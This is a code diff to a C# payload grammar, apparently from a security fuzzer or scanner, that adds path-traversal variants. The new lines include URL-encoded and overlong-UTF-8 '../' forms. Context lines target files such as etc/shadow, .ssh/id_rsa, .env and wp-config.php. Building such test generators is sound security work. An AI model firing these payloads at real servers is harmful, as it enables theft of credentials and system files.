@@ -26,7 +26,11 @@ internal static class Traversal
         2× «lead»«trick*2-8»«unixrel»«cut?30»
         ../«up*1-8»«word»«¦.«ext»»
         «up*3-12»
+        «trick*2-9»«{FILE}¦{file}»
+        «lead»«again2*2-9»{FILE}
         «lead»«up*2-10»«winrel»
+        §again2
+        «../¦..\¦..../¦.../¦..%2f¦%2e%2e/¦%2e%2e%2f¦..%5c¦0x2e0x2e/¦..%c0%af»
         §up
         ../
         §trick
@@ -119,6 +123,7 @@ internal static class Traversal
         2× «unixfile»
         «unixfile→globbed»
         etc/«passwd¦shadow¦hosts¦group»
+        «{FILE}¦{file}»
         WEB-INF/«web.xml¦classes/application.properties¦applicationContext.xml¦struts-config.xml¦classes/«word».class»
         «.env¦.git/config¦.htaccess¦.htpasswd¦config.php¦wp-config.php¦config/database.yml¦package.json¦composer.json¦settings.py¦appsettings.json¦web.config¦application.yml¦app.py¦Dockerfile¦config/secrets.yml¦.ssh/id_rsa»
         §winrel
